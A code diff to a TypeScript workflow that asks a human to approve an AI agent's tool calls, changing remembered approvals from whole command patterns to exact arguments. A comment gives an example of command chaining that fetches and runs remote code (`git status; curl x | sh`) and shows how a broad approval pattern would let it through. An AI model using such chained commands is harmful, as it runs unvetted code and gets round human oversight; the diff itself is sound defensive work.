@@ -1,8 +1,9 @@
 // Human approval of tool calls (docs/ARCHITECTURE.md, "Approvals"): rules decide allow / deny / ask; an `ask` publishes
 // TOOL_AUTH_REQUIRED and waits durably (days, across worker restarts) for the decideToolCall update or a timeout.
-import { condition, setHandler, workflowInfo } from '@temporalio/workflow';
+import { condition, patched, setHandler, workflowInfo } from '@temporalio/workflow';
 import {
   ToolCallDecision,
+  argumentsKey,
   decidePermission,
   type ApprovalsCarried,
   type PermissionRule,
@@ -21,6 +22,12 @@ interface Pending {
   args: unknown;
   decision?: ToolCallDecision;
 }
+
+/**
+ * `remember` allows the exact call again (same tool, same arguments) instead of every call of the tool (or of the asking
+ * rule's pattern, which over shell text is no boundary: `git *` also matches `git status; curl x | sh`).
+ */
+export const REMEMBER_EXACT_CALL_PATCH = 'agio-remember-exact-call';
 
 /** How many decided call ids continue-as-new carries. */
 const CARRIED_DECISIONS = 500;
@@ -114,15 +121,17 @@ export class Approvals {
     }
     const by = decision.by ?? 'operator';
     if (decision.decision === 'approve') {
+      // Asked only when a decision remembers, before anything this task emits.
+      const exact = decision.remember === true && patched(REMEMBER_EXACT_CALL_PATCH);
       if (decision.remember)
         this.remembered.unshift({
           tool: call.name,
-          ...(rule?.pattern ? { pattern: rule.pattern } : {}),
+          ...(exact ? { arguments: argumentsKey(entry.args) } : rule?.pattern ? { pattern: rule.pattern } : {}),
           action: 'allow',
         });
       await this.events.emit({
         type: 'TOOL_AUTH_GRANTED',
-        data: { ...about, by, remember: decision.remember ?? false },
+        data: { ...about, by, remember: decision.remember ?? false, ...(exact ? { remembered: 'exact_call' } : {}) },
       });
       await this.control?.waitWhilePaused();
       return { run: true };
